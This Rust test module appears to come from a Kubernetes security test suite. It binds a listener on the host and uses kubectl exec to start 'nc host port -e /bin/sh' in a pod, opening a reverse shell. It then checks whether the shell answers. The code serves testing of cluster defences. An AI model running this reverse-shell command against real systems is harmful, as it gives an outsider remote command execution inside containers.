//! Who waits at the other end of a reverse shell: this machine, outside of the cluster.

#![allow(clippy::unwrap_used, reason = "a test: what cannot be done fails it")]

use crate::cli::Bounded;
use crate::cluster::{Cluster, Pod, until};
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::Stdio;
use std::time::{Duration, Instant};

/// A shell answers this with the goal.
const ASK: &[u8] = b"echo goal-$((40+2))\n";
const GOAL: &str = "goal-42";

/// See the module.
pub(crate) struct Attacker<'c> {
    cluster: &'c Cluster,
    socket: TcpListener,
}

/// A shell in a pod, whose input and output are a connection to here.
pub(crate) struct Shell {
    line: TcpStream,
    /// kubectl, by which it was started.
    started: Bounded,
}

impl<'c> Attacker<'c> {
    pub(crate) fn new(cluster: &'c Cluster) -> Self {
        let socket = TcpListener::bind((cluster.fact("HOST_ADDRESS"), 0)).unwrap();
        socket.set_nonblocking(true).unwrap();
        Self { cluster, socket }
    }

    /// Has a shell started in a container of the pod, and waits for nothing.
    pub(super) fn starts(&self, pod: &Pod<'_>, container: &str) -> Bounded {
        let at = self.socket.local_addr().unwrap();
        let (host, port) = (at.ip().to_string(), at.port().to_string());
        let namespace = pod.object["metadata"]["namespace"].as_str().unwrap();
        let mut kubectl = self.cluster.kubectl(&["-n", namespace, "exec", pod.name(), "-c", container, "--"]);
        kubectl.args(["nc", &host, &port, "-e", "/bin/sh"]).stdout(Stdio::null()).stderr(Stdio::null());
        Bounded(kubectl.spawn().unwrap())
    }

    /// The same, and takes its connection.
    pub(crate) fn shell(&self, pod: &Pod<'_>, container: &str) -> Shell {
        let started = self.starts(pod, container);
        Shell { line: self.comes(), started }
    }

    /// Takes the next connection.
    pub(super) fn comes(&self) -> TcpStream {
        let line = until("a shell calls", || self.socket.accept().ok()).0;
        line.set_nonblocking(false).unwrap();
        line.set_read_timeout(Some(Duration::from_millis(100))).unwrap();
        line
    }
}

impl Shell {
    /// Whether somebody does here what is typed there, within five seconds.
    pub(crate) fn answers(&mut self) -> bool {
        answers(&mut self.line)
    }

    /// Ends it as its attacker would.
    pub(super) fn ends(mut self) {
        drop(self.line);
        until("kubectl has ended with the shell", || self.started.0.try_wait().unwrap());
    }
}

/// See [`Shell::answers`].
pub(super) fn answers(line: &mut TcpStream) -> bool {
    if line.write_all(ASK).is_err() {
        return false;
    }
    let (mut heard, mut piece, begun) = (Vec::new(), [0; 256], Instant::now());
    while begun.elapsed() < Duration::from_secs(5) {
        match line.read(&mut piece) {
            Ok(0) => return false,
            Ok(count) => heard.extend_from_slice(&piece[..count]),
            Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => {}
            Err(_) => return false,
        }
        if String::from_utf8_lossy(&heard).contains(GOAL) {
            return true;
        }
    }
    false
}
